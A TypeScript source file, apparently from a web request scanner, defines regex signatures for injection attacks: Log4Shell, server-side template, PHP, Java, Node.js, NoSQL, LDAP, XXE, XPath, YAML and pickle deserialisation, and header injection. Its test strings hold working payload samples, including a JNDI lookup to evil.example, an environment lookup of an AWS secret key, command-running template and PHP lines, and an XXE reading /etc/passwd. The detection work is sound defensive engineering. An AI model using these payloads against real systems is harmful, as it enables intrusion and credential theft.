import { signaturesOf, type SignatureRow } from "./rows.ts";
import { ARGUMENTS, COOKIES, HEADERS, INPUT, PATH } from "./places.ts";
import type { Signature } from "./signature.ts";

const TEMPLATES: readonly SignatureRow[] = [
  {
    slug: "java-jndi",
    title: "Log4Shell: a lookup in a logged value",
    pattern: String.raw`\$\{[^}]{0,60}(?:jndi ?:|:-?j(?:n?d?i?)?\})|\$\{(?:jndi|ctx|java|env|sys|main|marker|lower|upper|base64|k8s|docker|spring|bundle|sd|log4j)(?::|%3a)|\$\{(?:script:[a-z]{2,12}:|dns:(?:address|name|canonical)|(?:url|file):utf|const:[a-z]{1,20}\.|(?:xml|properties):[/a-z]|base64decoder:|urldecoder:)|\$\{(?:[a-z0-9_]{0,20}:){2,4}-|\$\{:{1,4}-|\$\{[^}]{0,30}:-[a-z:/]{1,4}\}[^ ]{0,40}\$\{|\$\{\$\{`,
    needs: ["${"],
    hits: [
      "${jndi:ldap://evil.example/a}",
      "${${lower:j}ndi:rmi://x}",
      "${${::-j}${::-n}di:x}",
      "${env:AWS_SECRET_ACCESS_KEY}",
      "%24%7Bjndi:dns://x%7D",
      "${j${k8s:k5:-ND}i:ldap://x}",
    ],
    misses: ["${obj}", "${PORT:-8080}", "${name}", "costs ${5}", "${user.name}", "a $ {b}"],
  },
  {
    slug: "template-expression",
    title: "Template injection: an evaluated expression",
    pattern: String.raw`(?:\{\{|\$\{|#\{|%\{|<%[=-]?|\{%|\[\[|@\(|\*\{)[=:@#]? ?['"(]{0,2}\d{1,12} ?['"]? ?[*+/-] ?['"]?\d{1,12} ?['"]?\)? ?(?:\}\}|\}|%>|%\}|\]\]|\))|\{ ?\d{1,12} ?\* ?\d{1,12} ?\}|\{% ?(?:set [a-z_]{1,20} ?= ?\d|if \d)|\$\{\{<%\[`,
    needs: ["{", "<%", "[[", "@("],
    hits: ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "@(1+2)", "{7*7}", "~{7*7}", "{% set x = 7*7 %}"],
    misses: ["{{name}}", "[[1, 2]]", "${price}", "a{1,3}", "{1-3}"],
  },
  {
    slug: "template-objects",
    title: "Template injection: access to the operating system",
    // With repeated braces, each search extends only to the next one.
    pattern: String.raw`(?:\{|<%|<#|#set ?\(|\$[a-z]{1,20}\.)[^{}<]{0,120}(?:__(?:class|globals|builtins|mro|subclasses|init|import|base)__|request ?[.|] ?(?:application|environ|attr|__)|self ?\. ?_|config ?(?:\.(?:items|from|__|secret|root)|\[ ?['"](?:secret|sql)|\|)|lipsum ?[.|\[]|cycler ?[.|\[]|joiner ?[.|\[]|getruntime|class\.forname|getclass ?\( ?\)|t\(java\.|freemarker\.|['"]\?new ?\(|\?api\b|_self\.|registerundefinedfiltercallback|\|? ?(?:filter|map|sort|reduce) ?\( ?['"(\[{]{0,3}(?:system|passthru|exec)\b|system ?\( ?['"]|popen ?\(|os\.popen|range\.constructor|process\.(?:mainmodule|binding)|require ?\( ?['"]child_process|__proto__|constructor ?(?:\.|\[|\( ?['"])|settings\.secret|smarty\.(?:version|server|template_object)|php\}|lookup string\.|\|passthru|url_for\.__|get_flashed_messages\.__|app\.request\.|dump ?\( ?app|messages\.storages|process\.env|beans ?\}\})|\$\{(?:page|request|session|application)scope|\$\{(?:class|request|response|session|pagecontext|facescontext|applicationcontext)\.(?:get|class|request|session)|<%@ ?(?:page|include|taglib) |@(?:\{ ?(?:int|var|string) |system\.(?:diagnostics|io)\.)|\bsystem\.diagnostics\.process\.|\{\{ ?printf |\$\{\.(?:data_model|globals|main|vars|current_template)|\{\{ ?\[\]\.class\b`,
    needs: [
      "__",
      "request",
      "self",
      "config",
      "lipsum",
      "cycler",
      "joiner",
      "getruntime",
      "class.forname",
      "getclass",
      "t(java",
      "freemarker",
      "?new",
      "?api",
      "registerundefined",
      "system",
      "passthru",
      "exec",
      "popen",
      "range.constructor",
      "process.",
      "require",
      "constructor",
      "settings.secret",
      "smarty",
      "php}",
      "lookup string",
      "url_for",
      "get_flashed",
      "dump",
      "messages.",
      "beans",
      "scope",
      "${class",
      "${response",
      "${session",
      "context.",
      "<%@",
      "@{",
      "printf",
      "${.",
      "[].class",
    ],
    hits: [
      "{{config.items()}}",
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")} ${freemarker}',
      '{{_self.env.registerUndefinedFilterCallback("exec")}}',
      "<%= system('id') %>",
      "{{request|attr('application')}}",
    ],
    misses: ["{{user.name}}", "{{ product.title }}", "{% if user %}", "${item.newest}"],
  },
  {
    slug: "template-probe",
    title: "Template injection: a probe",
    pattern: String.raw`^[^ ]{0,20}\{\{ ?(?:config|self|request|settings|session|app|_self|_context|globals|g|env|this|dump\([a-z_]{0,20}\)|debug|\$on\.constructor|[a-z]{1,10}\.__[a-z]{1,20}|['"][^'"]{0,20}['"] ?\. ?(?:toupper|tolower|upper|lower|join|__)[a-z]{0,8}) ?(?:\(\)|\(\))? ?\}\}|^[^ ]{0,20}\{% ?(?:debug|import (?:os|sys|subprocess)|load log|raw __|print ?\(|with [a-z]{1,10} ?= ?[a-z'"\[]|for [a-z]{1,10} in [(\[]|if [(\['"])[^%]{0,80}%\}|^[^ ]{0,20}\{(?:php|literal|\$smarty\.[a-z]{1,30}|system\(|exec\(|if [a-z_]{2,20}\()|^#(?:set|foreach|include|evaluate) ?\(|^\$\{\{? ?[a-z.]{1,40}\.(?:getclass|class)\b|^[^ ]{0,10}(?:<%[=-]? ?|#\{ ?)(?:\d|['"${"`"}%]|(?:file|dir|io|kernel|process|self|global|root|env|object|open3?|system|exec|eval|spawn|runtime|require|function|t)\b ?(?:\.|\(|\[|%>|\}))|^\$\{@[a-z_]{1,20} ?\(|\{\$\{@?[a-z_]{2,20} ?\(|^[^ ]{0,10}\$\{ ?(?:sleep|phpinfo|print|system|eval|passthru|exec|md5|die) ?\(`,
    needs: [
      "{{",
      "{%",
      "{php",
      "{literal",
      "{$smarty",
      "{system",
      "{exec",
      "{if",
      "#set",
      "#foreach",
      "#include",
      "#evaluate",
      "${",
      "<%=",
      "#{",
    ],
    hits: [
      "{{config}}",
      "{{ self }}",
      "{{'a'.toUpperCase()}}",
      "{% debug %}",
      "{php}echo `id`;{/php}",
      "{$smarty.version}",
      "#set($x=1)",
      "<%= File.open('/x') %>",
      "{${sleep(20)}}",
      "${@print(md5(1))}",
    ],
    misses: [
      "{{name}}",
      "Hello {{ user.name }}",
      "{{ config.title }}",
      "{% if user %}x{% endif %}",
      "${name}",
      "<%= name %>",
      "<%= f.label :name %>",
      "#{user.name} joined",
      '{% include "header.html" %}',
    ],
  },
  {
    slug: "template-python",
    title: "Python injection: objects that reach the operating system",
    pattern: String.raw`__(?:class|globals|builtins|mro|subclasses|import|getattribute|reduce)__ ?(?:\.|\[|\(|\b)|\b__import__ ?\(|\bos\.(?:system|popen|exec[lv]p?e?) ?\(|\bsubprocess\.(?:popen|call|run|check_output)|\bpickle\.loads|\beval ?\( ?compile ?\(`,
    needs: ["__", "os.", "subprocess.", "pickle.", "compile"],
    unless: isSentence,
    hits: ["''.__class__.__mro__", "__import__('os').system('id')", "os.popen('id')", "subprocess.check_output"],
    misses: ["__init__.py", "os.path", "the subprocess. Call"],
  },
];

const PHP: readonly SignatureRow[] = [
  {
    slug: "php-tag",
    title: "PHP injection: an opening tag",
    pattern: String.raw`<\?(?:php\b|=|[ ](?:eval|system|echo|exec|passthru|include|require|phpinfo|\$_))|<script language ?= ?["']?php`,
    needs: ["<?", "<script"],
    hits: ["<?php system($_GET['c']); ?>", "<?=`id`?>", "<?PHP phpinfo()"],
    misses: ['<?xml version="1.0"?>', "what <? is", "a <?> b"],
  },
  {
    slug: "php-call",
    title: "PHP injection: a call as a value",
    pattern: String.raw`^[^ ]{0,24}?(?:^|[^a-z0-9_.> ] ?|['"] ?\. ?)@?(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|scandir|glob|phpversion|php_uname|getenv|print_r|var_dump|die) ?\( ?(?:['"${"`"}$@]|base64_|chr ?\(|\) ?(?:;|$|\})|str_|get_|system\(|phpinfo\(|gz|\d{1,6} ?\) ?;)`,
    beginsValue: true,
    needs: ["("],
    hits: [";system('id')", "phpinfo()", "eval($_POST[x])", "';phpinfo();//", "print_r(scandir('/'))", "call_user_func('system','id')"],
    misses: ["the system (old)", "call exec('ls') from a script", "re.exec('x')", "eval()uation", "db.exec('x')"],
  },
  {
    slug: "php-functions",
    title: "PHP injection: functions that run code",
    pattern: String.raw`\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|preg_replace|include(?:_once)?|require(?:_once)?|file_(?:get|put)_contents|fopen|readfile|highlight_file|show_source|move_uploaded_file|base64_decode|gzinflate|str_rot13|unserialize|phpinfo|ini_set|putenv|dl|array_map|array_filter|usort) ?\( ?(?:['"${"`"}$@][a-z0-9_$'"/(-]|base64_|chr ?\(|\)|str_|get_|end ?\(|pos ?\()`,
    needs: ["("],
    hits: [
      "system('id')",
      "eval($_POST[x])",
      "phpinfo()",
      "file_get_contents('/etc/hosts')",
      'base64_decode("aWQ=")',
      "call_user_func('system','id')",
    ],
    misses: ["the system (old)", "exec (a,b)", "require (1)", "include('"],
    certainty: "likely",
  },
  {
    slug: "php-variables",
    title: "PHP injection: predefined variables",
    pattern: String.raw`\$_(?:get|post|request|server|cookie|files|session|env) ?(?:\[|\{)|\bglobals ?\[|\bphp_(?:sapi|uname|self)\b|^(?:_(?:get|post|request|server|cookie|files|session|env)|globals)\[`,
    needs: ["_get", "_post", "_request", "_server", "_cookie", "_files", "_session", "_env", "globals", "php_"],
    hits: ["$_GET['x']", "$_REQUEST{x}", "GLOBALS[x]", "_SERVER[DOCUMENT_ROOT]"],
    misses: ["costs $_5", "global s", "my_get[x]"],
  },
  {
    slug: "php-object",
    title: "PHP injection: a serialised object",
    pattern: String.raw`(?:^|[;{:=&])[oc]:\+?\d{1,4}:"[a-z0-9_\\]{1,80}":\+?\d{1,4}:\{`,
    needs: ['":'],
    hits: ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'a:1:{i:0;O:4:"Evil":0:{}}'],
    misses: ['{"o":8,"a":"b"}', 'time: "12:30":'],
  },
  {
    slug: "php-settings",
    title: "PHP injection: interpreter settings",
    pattern: String.raw`(?:allow_url_include|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode|suhosin\.simulation) ?=|-d ?(?:allow_url_include|auto_prepend_file)|\bcgi\.force_redirect`,
    targets: INPUT | PATH,
    hits: ["-d allow_url_include=on -d auto_prepend_file=php://input", "allow_url_include=1"],
    misses: ["safe mode = on", "open based dir"],
  },
];

const JAVA: readonly SignatureRow[] = [
  {
    slug: "java-runtime",
    title: "Java injection: classes that run code",
    pattern: String.raw`(?:java\.lang\.(?:runtime|processbuilder|system|class|thread|reflect)|getruntime ?\( ?\)|processbuilder ?\(|javax\.(?:script|naming|el)\.|org\.apache\.(?:commons\.(?:collections|fileupload|jelly)|xalan|log4j|struts)|com\.sun\.(?:rowset|org|jndi)|sun\.(?:misc|reflect)\.|groovy\.lang|org\.springframework\.(?:context|beans|expression)|ognl\.ognlcontext|freemarker\.template\.utility|bsh\.interpreter|classloader\.(?:url|resources|parent|defaultassertionstatus)|class[\]\[.'"]{1,4}module[\]\[.'"]{1,4}classloader|java\.net\.(?:inet[46]address|inetsocketaddress|urlclassloader)|javax\.swing\.jeditorpane|jdk\.nashorn\.|javax\.imageio\.|java\.beans\.(?:eventhandler|xmldecoder)|groovy\.util\.expando|ch\.qos\.logback\.core\.db)`,
    unless: isStackTrace,
    hits: [
      "java.lang.Runtime.getRuntime().exec('id')",
      "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
      "new javax.script.ScriptEngineManager()",
      "org.apache.commons.collections.functors",
    ],
    misses: ["java language", "the processbuilders", "run time ()"],
  },
  {
    slug: "java-ognl",
    title: "Java injection: expressions of OGNL and SpEL",
    pattern: String.raw`(?:%\{|\$\{|\(|^)[ (]{0,4}#(?:_memberaccess|context|cmd|p|dm|container|ognlutil|iswin|cmds|process|ros|req|res|attr|application|session|parameters|rt|root)(?:\[|\.|=| =)|@(?:ognl\.ognlcontext|java\.lang|org\.apache)|_memberaccess|xwork\.methodaccessor|#\{t ?\(|\bt\(java\.`,
    needs: ["#", "@", "_memberaccess", "xwork", "t("],
    hits: [
      "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
      "${(#cmd='id')}",
      "redirect:${#context['x']}",
      "T(java.lang.Runtime)",
    ],
    misses: ["#1 in context", "issue (#5)", "@orgs"],
  },
  {
    slug: "java-serialized",
    title: "Java injection: a serialised object",
    pattern: String.raw`^(?:[a-z_]{1,20}=)?(?:ro0ab[a-z0-9+/]|h4siaaaaaaaa|\xac\xed\x00?\x05|aced0005|tzo[w-z0-5](?:oij|[mno][a-z0-9]oi)|ytox?[a-z0-9+/]{2,60}(?:tzo[w-z0-5]o|o086[mno])|gasv[a-z0-9+/_-]{12}|ga[jn][9jdo][a-z0-9+/_-]{16}|y29zcnn5c3rlb|y3bvc2l4cn|bah[vbcu][a-z0-9+/_-]{2}[a-z0-9+/_-]{20})|aaeaaad[/_]{5}|abaaaa/////we|aqaaap////8b`,
    needs: [
      "ro0ab",
      "h4siaaaa",
      "\xac\xed",
      "aced0005",
      "tzo",
      "o086",
      "gasv",
      "gaj",
      "gan",
      "y29zcnn5",
      "y3bvc2l4",
      "bah",
      "aaeaaad",
      "abaaaa/",
      "aqaaap/",
    ],
    targets: INPUT | HEADERS,
    hits: ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "aced00057372"],
    misses: ["ro0t", "placed0005"],
  },
];

const NODE: readonly SignatureRow[] = [
  {
    slug: "node-injection",
    title: "JavaScript injection on the server",
    pattern: String.raw`\b(?:require ?\( ?['"${"`"}](?:node:)?child_process['"${"`"}] ?\) ?\. ?(?:exec|spawn|fork)|require ?\( ?['"${"`"}](?:node:)?(?:fs|net|http|os|vm)['"${"`"}] ?\) ?\. ?(?:readfile|readdir|writefile|createread|exists|unlink|connect|get|runin|networkinter|hostname)|child_process['"${"`"}]? ?\)? ?\.|process\.(?:mainmodule|binding\b|dlopen|kill ?\()|global(?:this)?(?:\.|\[["'${"`"}])process|globalthis ?\. ?constructor|execsync ?\(|spawnsync ?\(|import ?\( ?['"${"`"}](?:node:)?(?:child_process|fs)|_\$\$nd_func\$\$_|this ?\. ?constructor ?\. ?constructor|constructor ?\( ?['"${"`"}]return (?:process|this|global)|function ?\( ?['"${"`"}]return process)`,
    needs: ["require", "child_process", "process", "global", "execsync", "spawnsync", "import", "nd_func", "constructor"],
    hits: [
      "require('child_process').exec('id')",
      "process.mainModule.require('fs')",
      '{"rce":"_$$ND_FUNC$$_function(){}"}',
      "this.constructor.constructor('return process')()",
      "Function('return process')()",
    ],
    misses: [
      "requires (fs)",
      "the process. Exit",
      "import (goods)",
      "process.environment",
      "const fs = require('fs')",
      "process.env.HOME",
      "app.listen(process.env.PORT)",
    ],
  },
  {
    slug: "node-prototype",
    title: "Prototype pollution",
    pattern: String.raw`(?:^|[\[.{"' /])__proto__(?:$|[\].:"' =\[/])|constructor(?:\]?\[|[./]|['"] ?: ?\{ ?['"])prototype|__(?:lookup|define)[gs]etter__|__pro__proto__to__|protoprototypetype|(?:^|[\[."'])object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]? ?=|^object(?:\[|\.)prototype(?:\]\[|\.)[a-z_]{1,40}\]?$`,
    needs: ["__proto__", "prototype", "etter__", "__pro__"],
    hits: ["__proto__[admin]", "a[__proto__][b]", "constructor.prototype.x", "constructor[prototype][x]"],
    misses: ["a prototype", "the constructor's prototype", "my__proto__x"],
  },
];

const DATA: readonly SignatureRow[] = [
  {
    slug: "nosql-operators",
    title: "NoSQL injection: operators in argument names",
    pattern: String.raw`(?:^|\[|\.)\$(?:ne|eq|gt|gte|lt|lte|in|nin|not|or|and|nor|regex|where|exists|type|expr|jsonschema|mod|all|elemmatch|size|function|lookup|merge|out|rename|comment)(?:\]?$|\]?\[|\.)`,
    needs: ["$"],
    hits: ["user[$ne]", "$where", "a[$regex]", "$or"],
    misses: ["$100", "us$ not", "price[$]"],
  },
  {
    slug: "nosql-script",
    title: "NoSQL injection: scripts in queries",
    pattern: String.raw`(?:['"{,;] ?['"]?\$(?:where|ne|nin|regex|exists|or|function|comment)['"]? ?:|\$[gl]te?['"]? ?: ?(?:['"]|null|undefined|\{)|^\[\$(?:ne|gte?|lte?|nin|regex|exists|where)\]|^function ?\( ?\) ?\{ ?return |['"] ?\}?\)? ?(?:or [^ ]{1,12} )?(?:detach delete |union match ?\(|match ?\([a-z:]{0,20}\) ?(?:detach|return)|return [a-z] ?(?:union|//)|call dbm?s?\.)|load csv from|['"]\}?\)?//$|\$where|(?:^|['";(&|{] ?)(?:return )?this\.[a-z_]{1,30} ?(?:==|!=|\.match ?\(|\.length|\.startswith|\[)|(?:^|[;'" ])db\.[a-z_]{1,30}\.(?:find|drop|insert|remove|update|aggregate|mapreduce|getcollection)[a-z]{0,10} ?\(|['"] ?(?:\|\||&&) ?['"]?[a-z0-9]{1,10}['"]? ?==|['"] ?; ?(?:return|while|sleep|var|throw|it=)\b|;it=new date\(|do ?\{ ?[a-z]{1,12} ?= ?new date|(?:^|[;'"{ ])sleep ?\( ?\d{3,6} ?\))`,
    needs: [
      "$",
      "this.",
      "db.",
      "||",
      "&&",
      "return",
      "while",
      "sleep",
      "var",
      "throw",
      "it=",
      "new date",
      "function",
      "match",
      "delete ",
      "call db",
      "load csv",
      "//",
    ],
    unless: isProgram,
    hits: ["', $where: '1 == 1", "';return this.password.match(/a/)//", "db.users.find()", "' || 'a'=='a"],
    misses: ["this. That", "db. users", "a && b == c"],
  },
  {
    slug: "ldap-filter",
    title: "LDAP injection: a filter",
    pattern: String.raw`\)\((?:\||&|!|[a-z0-9-]{1,30}[~<>]?=)|\(\|\([a-z0-9-]{1,30}=|\*\)\(|\(&\([a-z]|\*\)\)(?:\x00|\(|$)|\*\(\||\)\)\(\||^[^()]{0,40}\)\(?[|&!]\(|\(objectclass=|\*\)[(&|]{1,2}[a-z(]|\* ?\) ?\( ?[a-z0-9-]{1,30} ?[~<>:]?=|(?:\*|\\2a)(?:\)|\\29)(?:\(|\\28)|^\(!\([a-z]|^\((?:cn|uid|mail|sn|samaccountname|memberof|userprincipalname|useraccountcontrol)(?::[0-9.]{1,40}:)?=[^()]{1,80}\)$`,
    needs: [
      ")(",
      "(|",
      "(&",
      "*)",
      ")|",
      ")&",
      ")!",
      "(objectclass",
      "\\2",
      ") (",
      "(cn=",
      "(uid=",
      "(mail=",
      "(sn=",
      "(sama",
      "(member",
      "(user",
    ],
    unless: quotesFilter,
    hits: ["*)(uid=*))(|(uid=*", "admin)(&(password=*)", "(|(cn=*)"],
    misses: ["f(x)(y)", "(a) (b)", "smile :)("],
  },
  {
    slug: "xml-entity",
    title: "XML: external entities and documents",
    pattern: String.raw`<!(?:entity|doctype)[ \[][^>]{0,200}(?:system|public|\[|%|entity)|<!entity|<\?xml-stylesheet|<xi:include|xmlns:xi ?=|<xsl:`,
    unless: isPublicHtml,
    needs: ["<!entity", "<!doctype", "xml-stylesheet", "xi:include", "xmlns:xi", "<xsl:"],
    hits: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '<!ENTITY % p SYSTEM "http://x">', '<xi:include href="x"/>'],
    misses: ["<!doctype html>", "<a>b</a>", "an entity"],
  },
  {
    slug: "xpath-union",
    title: "XPath injection: an added path",
    pattern: String.raw`['"]\)?\] ?\| ?/{1,2}[a-z*]|['"]\)\]/|['"]\]/\*|(?:\bor|\band) ?/{1,2}(?:\*|[a-z]{1,20}(?:/|::|\[))`,
    needs: ["']", '"]', "')]", '")]', "or /", "or/", "and /", "and/"],
    hits: ["x'] | //user/*", "' or //user[1]", "'] | //a/* | b['"],
    misses: ["see a['b']", "and /home", "https://a.example/b"],
  },
  {
    slug: "xpath",
    title: "XPath injection",
    pattern: String.raw`['"] ?\]? ?(?:\||or|and) ?(?:/{1,2}[a-z*]{1,20}|count ?\(|position ?\(|string-length ?\(|substring ?\(|name ?\(|text ?\()|/{1,2}(?:ancestor|child|descendant|following|parent|preceding|self)(?:-or-self|-sibling)?::`,
    needs: ["'", '"', "::"],
    hits: ["' or count(/*)=1 or 'a'='b", "x'] | //user/*[contains(*,'", "/child::node()"],
    misses: ["'a' or counting", "std::vector", "parent: self"],
    certainty: "likely",
  },
  {
    slug: "yaml-objects",
    title: "YAML that creates objects",
    pattern: String.raw`!!python/(?:object|name|module)|!!js/(?:function|regexp|undefined)|tag:yaml\.org,2002:(?:js|python|ruby|java)|!!(?:javax|java|com|org)\.[a-z]{1,40}\.[a-z.]{1,80}|!(?:ruby|php)/(?:object|hash|struct|array|class)\b`,
    hits: [
      '!!python/object/apply:os.system ["id"]',
      "!!python/object/new:type",
      "a: !!javax.script.ScriptEngineManager [x]",
      "--- !ruby/object:Gem::Installer",
    ],
    misses: ["learn python/object now!!", "wow!! java. And more", "!important", "see com.example!!"],
  },
  {
    slug: "cache-commands",
    title: "Cache injection: a command after a line break",
    pattern: String.raw`[\r\n](?:flushall|flushdb|flush_all|config set |slaveof |replicaof |eval ["'][^"'\r\n]{1,60}["'] \d|script load|module load|set [^\r\n ]{1,60} [^\r\n ]{1,60}(?: \d{1,9} \d{1,9})?\r\n|stats\r\n)|\*\d{1,3}\r?\n\$\d{1,4}\r?\n`,
    needs: ["flush", "config set", "slaveof", "replicaof", "eval ", "script load", "module load", "set ", "stats", "$"],
    reading: "lines",
    hits: ["x\r\nFLUSHALL\r\n", "*1\r\n$8\r\nflushall", "x\r\nset a 0 3600 10\r\n1"],
    misses: ["flush all pipes", "a\nset the table", "*1 and $8"],
  },
  {
    slug: "object-types",
    title: "Insecure deserialisation: type names",
    pattern: String.raw`\bsystem\.(?:windows|diagnostics|io|data|configuration|management|web|security|activities|workflow|runtime)\.[a-z.0-9]{3,60}, ?(?:presentation|system|mscorlib|microsoft)|^py/(?:object|reduce|type|function|newargs)$|^json_class$|\bexpandedwrapper${"`"}2|<objectdataprovider|<java\.util\.priorityqueue`,
    needs: ["system.", "py/", "json_class", "expandedw", "objectdata", "priorityq"],
    hits: ["System.Diagnostics.Process, System", "py/object", "json_class"],
    misses: ["System.IO.FileNotFoundException: Could not find file", "happy/object", "system.data, they said"],
  },
  {
    slug: "python-pickle",
    title: "Insecure deserialisation: a pickle that calls a function",
    pattern: String.raw`(?:^|[\n(.])[ci](?:os|posix|nt|subprocess|commands|builtins|__builtin__)\n(?:system|popen|eval|exec|call|check_output|getoutput|spawn[a-z]{1,3}|run|apply)\n`,
    reading: "lines",
    needs: ["os", "nt", "subprocess", "commands", "builtin"],
    hits: ["cos\nsystem\n(S'id'\ntR.", "(S'id'\nios\nsystem\n."],
    misses: ["os\nsystem\n", "the cosmos\nsystem"],
  },
  {
    slug: "ssi",
    title: "Server-side includes",
    pattern: String.raw`<!--[ ]?#[ ]?(?:exec|include|echo|config|printenv|fsize|flastmod|set)\b|<esi:(?:include|vars|inline|comment|remove|try)`,
    hits: ['<!--#exec cmd="id"-->', '<!--#include file="/etc/x"-->', '<esi:include src="http://x"/>'],
    misses: ["<!-- a comment -->", "<!-- #1 -->"],
  },
  {
    slug: "header-injection",
    title: "Response header injection",
    pattern: String.raw`^[^\r\n ]{0,300}[\r\n]{1,8}[ \t]?(?:[^\r\n]{0,60}[\r\n]{1,4})?(?:set-cookie2?|location|content-type|content-length|content-disposition|content-encoding|connection|last-modified|etag|expires|p3p|vary|www-authenticate|refresh|link|access-control-[a-z-]{3,30}|transfer-encoding|status|server|cache-control|host|via|content-security-policy|x-[a-z-]{2,30}|mime-version) ?:|^[^\r\n ]{0,300}[\r\n]{1,8}(?:http/[0-9]|<html|<script|(?:get|post|put) /)`,
    beginsValue: true,
    unless: isNestedPart,
    needs: [":", "http/", "<html", "<script", " /"],
    reading: "lines",
    targets: ARGUMENTS | COOKIES | PATH,
    hits: ["x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil.example", "a\r\n\r\nHTTP/1.1 200 OK", "%0aContent-Length: 0"],
    misses: ["set a cookie", "my location: home", "over http/s", "name: x\nlocation: Berlin", "Dear all,\nsee you\nTo: do"],
  },
  {
    slug: "mail-injection",
    title: "E-mail or request header injection",
    pattern: String.raw`^[^\r\n @]{1,64}@[^\r\n @]{1,64}[\r\n]{1,2}\.?[\r\n]{0,2}(?:(?:bcc|cc|to|subject|from|reply-to) ?:|mail from:|rcpt to:|data[\r\n])|^[^\r\n ]{0,64} http/1\.[01]\r?\n[a-z-]{2,30}:|^[^\\ ]{0,64}\\[nr](?:\\n)?(?:set-cookie|location|content-(?:type|length)|x-[a-z-]{2,30}) ?:|^[^\r\n ]{0,64}\r?\ndata[\r\n]|^[^\xc4\xe5 ]{0,64}(?:\xe5\x98[\x8a\x8d]|\xc4[\x8a\x8d]){1,4}(?:set-cookie|location|content-type|x-)`,
    beginsValue: true,
    reading: "lines",
    needs: [":", "data"],
    targets: ARGUMENTS | COOKIES | PATH,
    hits: ["a@b.example\r\nBcc: c@d.example", "x\\r\\nSet-Cookie: a=b", "x HTTP/1.1\r\nHost: a"],
    misses: ["Hi,\nTo: nobody in particular", "see a@b.example\nthanks", "C:\\new\\data"],
  },
];

/** A sentence about programs starts with words. */
function isSentence(text: string): boolean {
  return /^[a-z']{1,20},? [a-z']{2,20} [`'a-z]{1,20}[ ,.?!(`]/.test(text) && !/[{}$<>;]/.test(text.slice(0, 8192));
}

/** A sentence with a whole filter in it; what breaks out of a filter has a bracket without its partner. */
function quotesFilter(text: string): boolean {
  if (text.length > 1024 || !/^[a-z][\w',.:?! -]{2,200} \([&|!]\([a-z]/.test(text)) return false;
  let depth = 0;
  for (const char of text) {
    if (char === "(") depth++;
    else if (char === ")" && --depth < 0) return false;
  }
  return depth === 0;
}

/** Scripts start with words of their language. */
function isProgram(text: string): boolean {
  return (
    /^\s{0,20}(?:var|let|const|if ?\(|import|export|class|async) ?[\w({*]/.test(text.slice(0, 200)) &&
    !/\$where|this\./.test(text.slice(0, 8192))
  );
}

/** A part within a part has its own head. */
function isNestedPart(text: string): boolean {
  return /^--[\w'()+,./:=?-]{1,70}\r?\ncontent-disposition: ?[a-z-]{1,20};/.test(text) && text.trimEnd().endsWith("--");
}

/** Stack traces contain class names with line numbers. */
function isStackTrace(text: string): boolean {
  return (
    /(?:\bat |["']module["']: ?["'])[\w.$/]{3,200}(?:\([\w.]{1,80}(?::\d{1,6})?\)|["'])/.test(text.slice(0, 65_536)) &&
    !/getruntime|processbuilder\(|\.exec\(|classloader/.test(text)
  );
}

/** XHTML documents start with this. */
function isPublicHtml(text: string): boolean {
  return /<!doctype html public/.test(text) && !/<!entity|<!\[cdata\[ ?<|<xi:|<xsl:/.test(text);
}

export const TEMPLATE_INJECTION: readonly Signature[] = signaturesOf("template-injection", TEMPLATES);
export const PHP_INJECTION: readonly Signature[] = signaturesOf("php", PHP);
export const JAVA_INJECTION: readonly Signature[] = signaturesOf("java", JAVA);
export const NODE_INJECTION: readonly Signature[] = signaturesOf("nodejs", NODE);
export const DATA_INJECTION: readonly Signature[] = signaturesOf("nosql-ldap-xml", DATA);
